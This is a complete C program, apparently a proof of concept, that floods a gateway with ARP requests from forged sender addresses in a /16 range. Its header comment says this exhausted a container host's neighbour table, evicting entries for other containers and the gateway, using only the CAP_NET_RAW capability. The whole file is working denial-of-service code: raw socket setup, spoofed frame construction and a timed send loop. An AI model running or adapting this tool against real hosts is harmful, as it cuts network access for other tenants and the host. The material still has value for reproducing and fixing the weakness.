/* ARP requests for TARGET (the gateway) for SECONDS from made-up sender addresses in BASE/16: without a reverse-path
 * filter on the host side of the link, each made the host add a neighbour entry, and one container filled the host's
 * table (gc_thresh3), evicting its entries for other containers and its own gateway. Needs CAP_NET_RAW (Garden's set). */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <time.h>
#include <arpa/inet.h>
#include <sys/socket.h>
#include <sys/ioctl.h>
#include <net/if.h>
#include <linux/if_packet.h>
#include <linux/if_ether.h>
int main(int argc, char **argv) {
    if (argc < 5) { fprintf(stderr, "usage: arpflood IF TARGET_IP SECONDS BASE(a.b.0.0/16 random sender)\n"); return 2; }
    int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP)); if (s < 0) { perror("socket"); return 1; }
    struct ifreq ifr = {0}; strncpy(ifr.ifr_name, argv[1], IFNAMSIZ - 1);
    if (ioctl(s, SIOCGIFINDEX, &ifr) < 0) { perror("ifindex"); return 1; } int idx = ifr.ifr_ifindex;
    if (ioctl(s, SIOCGIFHWADDR, &ifr) < 0) { perror("hwaddr"); return 1; }
    unsigned char mac[6]; memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
    struct in_addr tip, base; inet_aton(argv[2], &tip); inet_aton(argv[4], &base);
    int secs = atoi(argv[3]);
    struct sockaddr_ll a = {0}; a.sll_family = AF_PACKET; a.sll_ifindex = idx; a.sll_halen = 6; memset(a.sll_addr, 0xff, 6);
    unsigned char f[42]; memset(f, 0xff, 6); memcpy(f + 6, mac, 6); f[12] = 0x08; f[13] = 0x06;
    unsigned char *p = f + 14; p[0]=0; p[1]=1; p[2]=8; p[3]=0; p[4]=6; p[5]=4; p[6]=0; p[7]=1;
    memcpy(p + 8, mac, 6); memset(p + 18, 0, 6); memcpy(p + 24, &tip, 4);
    time_t end = time(0) + secs; unsigned long n = 0; uint32_t b = ntohl(base.s_addr);
    while (time(0) < end) {
        uint32_t sip = htonl(b | ((n * 2654435761u) & 0xffff)); memcpy(p + 14, &sip, 4);
        if (sendto(s, f, sizeof f, 0, (struct sockaddr *)&a, sizeof a) < 0) { perror("sendto"); return 1; }
        if (++n % 2000 == 0) usleep(20000);
    }
    printf("sent %lu ARP requests\n", n); return 0;
}
